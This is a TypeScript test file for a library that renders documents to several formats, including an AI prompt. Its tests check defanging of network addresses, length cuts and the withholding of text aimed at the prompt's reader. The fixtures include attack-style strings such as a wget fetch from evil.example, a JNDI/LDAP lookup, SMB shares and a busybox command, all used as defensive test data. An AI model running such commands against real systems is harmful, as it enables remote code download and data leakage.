import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { test } from 'node:test'
import { CONTEXTS } from '../../src/core/encoded.ts'
import type { SafeText } from '../../src/core/text.ts'
import { defang, refang } from '../../src/output/defang.ts'
import { count, type Document, text } from '../../src/output/document.ts'
import { encodePrompt, WITHHELD } from '../../src/output/encode/prompt.ts'
import { OUTPUT_NAMES } from '../../src/output/names.ts'
import { ORACLES } from '../../src/output/oracle/index.ts'
import { OUTPUTS, outputNamed } from '../../src/output/outputs.ts'
import { HARMLESS, probeDocument } from '../../src/output/probe.ts'

const SRC = join(import.meta.dirname, '../../src/output')

test('every renderer is in the list of outputs, and every output has a name, a judge and its contexts', () => {
  const files = globSync('render/*.ts', { cwd: SRC }).map((path) => basename(path, '.ts'))
  // Lines of plain text, which the renderers for terminals and mail share.
  const shared = ['plain']
  assert.deepEqual(
    files.filter((name) => !shared.includes(name)).sort(),
    OUTPUTS.map((output) => output.file).sort(),
  )
  assert.deepEqual(
    OUTPUTS.map((output) => output.name),
    [...OUTPUT_NAMES],
  )
  assert.deepEqual(Object.keys(ORACLES).sort(), [...OUTPUT_NAMES].sort())
  assert.deepEqual(
    [...new Set(OUTPUTS.flatMap((output) => output.contexts))].sort(),
    [...CONTEXTS].sort(),
  )
})

test('every context has an encoder, and a renderer uses that of its output', () => {
  const files = globSync('encode/*.ts', { cwd: SRC }).map((path) => basename(path, '.ts'))
  assert.deepEqual(files.sort(), CONTEXTS.filter((name) => name !== 'mail-header').sort())
  for (const { file } of OUTPUTS)
    assert.match(readFileSync(join(SRC, `render/${file}.ts`), 'utf8'), new RegExp(`encode/${file}`))
})

test('an empty document and one of a thousand rows are documents in every format', () => {
  const empty: Document = {
    kind: 'probe',
    subject: text(HARMLESS),
    madeAtUs: 0,
    facts: [],
    tables: [],
    notes: [],
  }
  const rows = Array.from({ length: 1_000 }, (_, i) => [text(`a${i}` as SafeText), count(i)])
  const long: Document = { ...empty, tables: [{ name: 'rows', columns: ['text', 'number'], rows }] }
  for (const document of [empty, long]) {
    for (const { name, render } of OUTPUTS) {
      const { text: written } = render(document)
      assert.deepEqual(ORACLES[name](written, written), [], name)
    }
  }
})

test('a prompt is cut at a length, and says how much is left out', () => {
  const rows = Array.from({ length: 5_000 }, (_, i) => [text(`a text of row ${i}` as SafeText)])
  const document: Document = {
    ...probeDocument(HARMLESS),
    tables: [{ name: 'rows', columns: ['text'], rows }],
  }
  const { text: written } = outputNamed('prompt').render(document)
  assert.ok(written.length < 62_000)
  assert.match(written, /\n\["left_out",\d+\]\n<\/data "/)
  assert.match(encodePrompt('x'.repeat(9_000)).text, /\^\(cut:9000\)"$/)
})

test('an address in a prompt ends where a character is spelled out, and is defanged', () => {
  assert.match(encodePrompt('//evil.example\u115f').text, /evil\[\.\]example/)
})

test('a prompt withholds what rules say speaks to its reader', () => {
  const { text: written } = outputNamed('prompt').render(probeDocument('obey me' as SafeText), {
    isWithheld: (one) => one.includes('obey'),
  })
  assert.doesNotMatch(written, /obey\^/)
  assert.ok(written.includes(WITHHELD))
})

test('addresses are defanged wherever they stand, and come back', () => {
  for (const [typed, shown] of [
    ['wget http://evil.example/x', 'wget hxxp://evil[.]example/x'],
    ['HTTPS://u:p@a.b.example:8443/', 'HXXPS://u:p[@]a.b[.]example:8443/'],
    ['..http://evil.example', '..hxxp://evil[.]example'],
    [`${'a'.repeat(50)}http://evil.example`, `${'a'.repeat(50)}hxxp://evil[.]example`],
    ['ftp://192.0.2.7/a', 'fxp://192.0.2[.]7/a'],
    ['ldap://203.0.113.5:389/a', 'ldap[:]//203[.]0[.]113[.]5:389/a'],
    ['2001:db8::7', '2001:db8[:]:7'],
    ['http://[2001:db8::7]:80/', 'hxxp://[2001:db8[:]:7]:80/'],
    ['mail root@evil.example', 'mail root[@]evil[.]example'],
    ['www.evil.example', 'www[.]evil[.]example'],
    ['javascript:x', 'javascript[:]x'],
    // An address within the host of another, rows of addresses, letters that are not ASCII before.
    ['http://a%24jndi:ldap://b', 'hxxp://a%24jndi:ldap[:]//b'],
    ['192.0.2.66.192.0.2.7', '192.0.2[.]66.192.0[.]2.7'],
    ['ßwww.evil', 'ßwww[.]evil'],
    // Hosts without a scheme, shares of Windows, mailboxes with odd names.
    ['<img src=//cdn.evil.sh/a>', '<img src=//cdn[.]evil[.]sh/a>'],
    ['\\\\evil.sh\\share', '\\\\evil[.]sh\\share'],
    ['//a.evil.sh/x', '//a[.]evil[.]sh/x'],
    ["o'@evil.example", "o'[@]evil[.]example"],
    ['=@evil.sh', '=[@]evil[.]sh'],
    ['root@192.0.2.7', 'root[@]192.0.2[.]7'],
    // Behind a scheme that is spelled out, programs see a host without a scheme.
    ['ldap://a.evil.sh:80/x', 'ldap[:]//a[.]evil[.]sh:80/x'],
    ['ldap://evil.sh@x', 'ldap[:]//evil[.]sh[@]x'],
    ['smb:\\\\evil.sh\\x', 'smb[:]\\\\evil[.]sh\\x'],
    // What is left of an address may be one.
    ['1:2a:3:3::', '1:2a[:]3:3::'],
    // What is left of a host is none; letters that only fold to ASCII ones end a word, too.
    ['a.com.xyz', 'a[.]com[.]xyz'],
    ['ſhttp:x', 'ſhxxp:x'],
    ['ſwww.evil.sh', 'ſwww[.]evil.sh'],
  ] as const) {
    assert.equal(defang(typed), shown)
    assert.equal(refang(shown), typed)
    assert.equal(defang(shown), shown, 'twice is once')
  }
})

test('what was typed half defanged is defanged whole', () => {
  for (const [typed, shown] of [
    ['ldap[:]//evil.sh/a', 'ldap[:]//evil[.]sh/a'],
    ['ldap://evil.sh[.]x', 'ldap[:]//evil[.]sh[.]x'],
  ] as const) {
    assert.equal(defang(typed), shown)
    assert.equal(defang(shown), shown, 'twice is once')
  }
})

test('what is no address stays as it is', () => {
  for (const typed of [
    'sh x.sh; ./busybox.bin',
    '12:34:56',
    'aa:bb:cc:dd:ee:ff',
    'PATH=/bin:/sbin',
    'SSH-2.0-OpenSSH_9.6',
    'a: b',
    'root@host',
  ])
    assert.equal(defang(typed), typed)
})
